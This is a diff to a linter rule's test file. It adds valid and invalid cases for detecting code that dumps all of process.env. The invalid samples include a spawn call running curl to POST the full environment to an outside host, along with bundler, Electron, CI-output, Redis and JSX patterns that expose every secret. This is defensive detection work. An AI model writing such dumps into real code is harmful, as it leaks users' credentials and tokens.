@@ -12,6 +12,18 @@ await ruleTester(rule, {
   valid: [
     // the options of a list that `apply` is given
     { code: 'const { spawn } = require("child_process"); const options = { env: Object.assign({}, process.env, { A: "1" }) }; const list = ["sh", ["-c", line], options]; spawn.apply(null, list);' },
+    { code: 'const names = Reflect.ownKeys(process.env); console.log(names.length, Reflect.get(process.env, "NODE_ENV"));' },
+    // bundlers and bridges are given single variables, and those of a public prefix
+    { code: 'import { defineConfig, loadEnv } from "vite"; export default defineConfig(({ mode }) => { const env = loadEnv(mode, process.cwd(), ""); return { define: { __VERSION__: JSON.stringify(env.npm_package_version), __KEY__: JSON.stringify(env.MAPS_API_KEY) }, server: { proxy: { "/api": env.API_URL } } }; });' },
+    { code: 'import { defineConfig, loadEnv } from "vite"; export default defineConfig(({ mode }) => { const env = loadEnv(mode, process.cwd()); return { define: { "process.env": env } }; });' },
+    { code: 'import { defineConfig, loadEnv } from "vite"; export default defineConfig(({ mode }) => { process.env = { ...process.env, ...loadEnv(mode, process.cwd(), "") }; return { plugins: [react()] }; });' },
+    { code: 'import { defineConfig } from "vite"; export default defineConfig({ define: { "process.env": {}, "process.env.NODE_ENV": JSON.stringify(process.env.NODE_ENV) }, test: { env: { ...process.env } } });' },
+    { code: 'const webpack = require("webpack"); const REACT_APP = /^REACT_APP_/i; const raw = Object.keys(process.env).filter((key) => REACT_APP.test(key)).reduce((env, key) => { env[key] = process.env[key]; return env; }, {}); module.exports = { plugins: [new webpack.DefinePlugin({ "process.env": JSON.stringify(raw) })] };' },
+    { code: 'import esbuild from "esbuild"; await esbuild.build({ entryPoints: ["a.ts"], define: { VERSION: JSON.stringify(process.env.VERSION) } });' },
+    { code: 'import { contextBridge } from "electron"; contextBridge.exposeInMainWorld("env", { platform: process.platform, mode: process.env.NODE_ENV });' },
+    { code: 'import * as core from "@actions/core"; core.setOutput("sha", process.env.GITHUB_SHA);' },
+    { code: 'export const Page = () => <p title={process.env.NODE_ENV}>{process.env.VERSION} {Object.keys(process.env).length}</p>;', filename: 'file.jsx' },
+    { code: 'import Redis from "ioredis"; const c = new Redis(process.env.REDIS_URL); await c.set("version", process.env.VERSION);' },
     // a selection, told either way
     { code: ' const out = {}; for (const k of Object.keys(process.env)) { if (!ALLOWED.includes(k)) continue; out[k] = process.env[k]; } fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });' },
     { code: 'const SHOWN = new Set(["NODE_ENV", "CI"]); const out = {}; for (const k of Object.keys(process.env)) { if (!(SHOWN.has(k) || k.startsWith("GITHUB_REF"))) continue; out[k] = process.env[k]; } fetch("https://in.example-service.com/c", { method: "POST", body: JSON.stringify(out) });' },
@@ -92,6 +104,19 @@ await ruleTester(rule, {
   invalid: [
     { code: 'const { spawn } = require("child_process"); const list = ["curl", ["-d", JSON.stringify(process.env), "https://in.example-service.com"], {}]; spawn.apply(null, list);', errors: [{ messageId: 'dump' }] },
     { code: 'const { spawn } = require("child_process"); const list = ["sh", [], { input: JSON.stringify(process.env) }]; spawn.apply(null, list);', errors: [{ messageId: 'dump' }] },
+    { code: 'const { env } = process; const out = {}; for (const key of Object.keys(env)) Object.defineProperty(out, key, { value: env[key], enumerable: true }); console.log(out);', errors: [{ messageId: 'dump' }] },
+    { code: 'const all = Reflect.ownKeys(process.env).map((k) => [k, Reflect.get(process.env, k)]); console.log(Object.fromEntries(all));', errors: [{ messageId: 'dump' }] },
+    { code: 'import { defineConfig } from "vite"; export default defineConfig({ define: { "process.env": process.env } });', errors: [{ messageId: 'dump' }] },
+    { code: 'import { defineConfig, loadEnv } from "vite"; export default defineConfig(({ mode }) => { const env = loadEnv(mode, process.cwd(), ""); return { define: { "process.env": env } }; });', errors: [{ messageId: 'dump' }] },
+    { code: 'import { defineConfig } from "electron-vite"; export default defineConfig({ renderer: { define: { ENV: JSON.stringify({ ...process.env }) } } });', errors: [{ messageId: 'dump' }] },
+    { code: 'const webpack = require("webpack"); module.exports = { plugins: [new webpack.DefinePlugin({ "process.env": JSON.stringify(process.env) })] };', errors: [{ messageId: 'dump' }] },
+    { code: 'import esbuild from "esbuild"; await esbuild.build({ entryPoints: ["a.ts"], define: { "process.env": JSON.stringify(process.env) } });', errors: [{ messageId: 'dump' }] },
+    { code: 'import replace from "@rollup/plugin-replace"; export default { plugins: [replace({ "process.env": JSON.stringify(process.env) })] };', errors: [{ messageId: 'dump' }] },
+    { code: 'import { contextBridge } from "electron"; contextBridge.exposeInMainWorld("api", { env: { ...process.env } });', errors: [{ messageId: 'dump' }] },
+    { code: 'import { ipcMain } from "electron"; ipcMain.handle("env", () => process.env);', errors: [{ messageId: 'dump' }] },
+    { code: 'import * as core from "@actions/core"; core.setOutput("env", JSON.stringify(process.env));', errors: [{ messageId: 'dump' }] },
+    { code: 'import { Redis } from "ioredis"; const c = new Redis(); await c.set("boot", JSON.stringify(process.env));', errors: [{ messageId: 'dump' }] },
+    { code: 'export default function Page() { return <pre>{JSON.stringify(process.env)}</pre>; }', filename: 'file.jsx', errors: [{ messageId: 'dump' }] },
     // the secrets alone are shown, or one kind of them is covered
     { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, /KEY|TOKEN/.test(name) ? value : "***");', errors: [{ messageId: 'dump' }] },
     { code: 'for (const [name, value] of Object.entries(process.env)) console.log(name, /^keyboard$/.test(name) ? "***" : value);', errors: [{ messageId: 'dump' }] },
